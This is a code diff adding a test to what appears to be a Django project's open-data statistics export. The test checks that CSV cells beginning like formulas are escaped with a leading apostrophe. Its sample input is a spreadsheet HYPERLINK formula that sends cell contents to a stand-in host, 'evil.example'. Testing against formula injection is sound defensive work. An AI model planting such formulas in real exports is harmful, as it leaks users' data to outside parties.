@@ -92,3 +92,19 @@ def test_open_statistics_constant_queries(campus, django_assert_max_num_queries)
     """Twelve grouped queries and the ministries, whatever the number of agents."""
     with django_assert_max_num_queries(13):
         open_data.statistics()
+
+
+def test_open_statistics_csv_cells_are_never_formulas():
+    """A path or ministry named like a formula reaches the CSV as text (leading apostrophe), as
+    in every other spreadsheet the campus writes (learners/common/spreadsheets.py)."""
+    rows = [
+        {
+            "mois": "2026-11",
+            "dimension": "parcours",
+            "valeur": '=HYPERLINK("http://evil.example/?"&A1,"Voir")',
+            **dict.fromkeys(open_data.MEASURES, 5),
+        }
+    ]
+    (row,) = csv.DictReader(io.StringIO(open_data.statistics_csv(rows)))
+    assert row["valeur"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Voir")'
+    assert row["mois"] == "2026-11"
